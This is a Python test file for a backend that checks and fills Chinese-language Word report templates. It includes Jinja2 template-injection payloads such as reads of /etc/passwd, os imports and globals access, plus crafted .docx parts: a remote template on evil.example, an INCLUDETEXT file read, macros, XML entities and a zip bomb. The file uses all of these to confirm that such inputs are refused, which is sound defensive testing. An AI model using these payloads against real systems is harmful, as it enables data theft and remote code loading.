"""Office-made Word templates: documented names only, nothing that runs, words as data."""

import io
import zipfile
from typing import Any

import pytest
from docx import Document
from docx.oxml.ns import qn

from backend.digests.default_templates import default_template
from backend.digests.exporting import sample_values
from backend.digests.template_values import NAMES
from backend.digests.word_templates import BadTemplate, check, fill, named
from backend.models import DigestKind
from tests.unit.test_digest_writers import HOSTILE, random_strings, word_text

REPORT = DigestKind.ADOPTION_REPORT


def template(*paragraphs: str, header: str = "", title: str = "") -> bytes:
    document = Document()
    for words in paragraphs:
        document.add_paragraph(words)
    document.sections[0].header.paragraphs[0].text = header
    document.core_properties.title = title
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def examined(*paragraphs: str, **given: str) -> None:
    check(template(*paragraphs, **given), REPORT, sample_values(REPORT))


def refusal(*paragraphs: str, **given: str) -> str:
    with pytest.raises(BadTemplate) as caught:
        examined(*paragraphs, **given)
    return str(caught.value)


def filled(*paragraphs: str, **values: Any) -> list[str]:
    return word_text(fill(template(*paragraphs), sample_values(REPORT) | values))


@pytest.mark.parametrize("kind", list(DigestKind))
def test_the_shipped_templates_pass_and_use_every_list(kind: DigestKind) -> None:
    data = default_template(kind)
    check(data, kind, sample_values(kind))
    assert data == default_template(kind)
    text = "".join(word_text(data))
    for name in ("标题", "正文" if kind is REPORT else "发现", "意见"):
        assert name in text
    made = fill(data, sample_values(kind))
    assert "{{" not in "".join(word_text(made))
    assert made == fill(data, sample_values(kind))


def test_loops_conditions_and_headers_are_filled() -> None:
    data = template(
        "{{ 标题 }}",
        "{%p for 项 in 结论 %}",
        "{{ loop.index }}. {{ 项.名称 }}：{{ 项.条数 }}条",
        "{%p endfor %}",
        "{%p if 收到条数 == 0 %}",
        "没有收到意见",
        "{%p endif %}",
        header="{{ 发文机关 }}",
    )
    values = sample_values(REPORT) | {
        "标题": "报告",
        "收到条数": 3,
        "结论": [{"名称": "采纳", "条数": 2}, {"名称": "未采纳", "条数": 1}],
        "发文机关": "某区文件",
    }
    check(data, REPORT, values)
    made = fill(data, values)
    assert [p for p in word_text(made) if p] == ["报告", "1. 采纳：2条", "2. 未采纳：1条"]
    assert Document(io.BytesIO(made)).sections[0].header.paragraphs[0].text == "某区文件"


@pytest.mark.parametrize(
    ("words", "said"),
    [
        ("{{ 天气 }}", "没有“天气”这个变量"),
        ("{{ 标题 ", "写法有误"),
        ("{% for 项 in 结论 %}{{ 项.名称 }}", "没有结束"),
        ("{% for 项 in 天气 %}{% endfor %}", "没有“天气”这个列表"),
        ("{% for 项 in 结论 %}{{ 项.天气 }}{% endfor %}", "没有“天气”，可以用：名称、条数"),
        ("{{ 结论 }}", "是一个列表"),
        ("{{ 项.名称 }}", "没有“项.名称”这个变量"),
        ("{% weather %}", "不认识“weather”"),
    ],
)
def test_a_fault_is_told_with_its_place(words: str, said: str) -> None:
    sentence = refusal("第一段", f"第二段 {words}")
    assert said in sentence
    assert "正文第2段" in sentence
    assert sentence.endswith("。")


@pytest.mark.parametrize(
    "words",
    [
        "{{ 标题.__class__.__mro__ }}",
        "{{ ''.__class__ }}",
        "{{ 标题|attr('x') }}",
        "{{ 标题|upper }}",
        "{{ range(10**9) }}",
        "{{ cycler.__init__.__globals__ }}",
        "{{ '甲' * 1000000000 }}",
        "{{ 结论[0] }}",
        "{% set x = 1 %}{{ x }}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}",
        "{% extends 'x' %}",
        "{% macro m() %}{% endmacro %}",
        "{% for x in '甲' * 999999999 %}{% endfor %}",
        "{% for x in 结论 recursive %}{% endfor %}",
        "{{ 标题.format(1) }}",
        "{{ self }}",
        "{{ loop.index }}",
        "{% filter upper %}x{% endfilter %}",
        "{% autoescape false %}{{ 标题 }}{% endautoescape %}",
    ],
)
def test_nothing_but_names_conditions_and_loops_gets_in(words: str) -> None:
    for given in ({"header": words}, {"title": words}):
        assert refusal("{{ 标题 }}", **given).endswith("。")
    assert refusal(words).endswith("。")


def test_loops_inside_loops_have_an_end() -> None:
    deep = "{% for a in 意见 %}{% for b in 意见 %}{% for c in 意见 %}{% for d in 意见 %}"
    assert "循环太复杂" in refusal(deep + "{% endfor %}" * 4)


@pytest.mark.parametrize("text", [*HOSTILE, "{_{ 7*7 }_} {_% x %_} a_b", "{{ 标题 }}", "a\tb"])
def test_what_residents_wrote_stands_as_they_wrote_it(text: str) -> None:
    made = fill(template("{{ 标题 }}"), sample_values(REPORT) | {"标题": text})
    shown = "".join(
        {"t": node.text or "", "br": "\n", "tab": "\t"}[node.tag.rpartition("}")[2]]
        for node in Document(io.BytesIO(made)).element.body.iter(qn("w:t"), qn("w:br"), qn("w:tab"))
        if node.getparent().tag == qn("w:r")
    )
    assert shown == text


def test_random_text_never_breaks_a_filled_template() -> None:
    rows = [
        dict.fromkeys(NAMES[REPORT]["意见"], text)  # type: ignore[union-attr]
        for text in random_strings(500)
    ]
    data = fill(default_template(REPORT), sample_values(REPORT) | {"意见": rows})
    assert len(Document(io.BytesIO(data)).tables[0].rows) == 501


def altered(name: str, text: str) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(template("{{ 标题 }}"))) as old,
        zipfile.ZipFile(out, "w") as new,
    ):
        for member in old.namelist():
            new.writestr(member, old.read(member))
        new.writestr(name, text)
    return out.getvalue()


FIELD = '<x xmlns:w="w"><w:instrText>INCLUDETEXT "c:\\\\secret.docx"</w:instrText></x>'
REMOTE = (
    '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" '
    'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"not a zip", "这不是 Word 文件"),
        (b"PK\x03\x04" + b"0" * 100, "这不是 Word 文件"),
        (b"0" * 2_000_001, "不能超过2MB"),
        (altered("word/vbaProject.bin", "x"), "宏"),
        (altered("word/embeddings/oleObject1.bin", "x"), "嵌入的对象"),
        (altered("word/extra.xml", FIELD), "INCLUDETEXT"),
        (altered("word/extra.xml", "<!DOCTYPE x [<!ENTITY a 'b'>]><x/>"), "不能接收的定义"),
        (altered("word/_rels/settings.xml.rels", REMOTE), "引用了外部的文件"),
        (template("只有字"), "没有任何变量"),
    ],
)
def test_files_that_carry_more_than_words_are_refused(data: bytes, said: str) -> None:
    with pytest.raises(BadTemplate, match=said):
        check(data, REPORT, sample_values(REPORT))


def test_a_bomb_is_refused_by_its_directory() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b" " * 30_000_000)
    with pytest.raises(BadTemplate, match="解压以后太大"):
        check(out.getvalue(), REPORT, sample_values(REPORT))


def test_every_name_is_documented() -> None:
    for kind in DigestKind:
        assert len(named(kind)) == len(NAMES[kind])
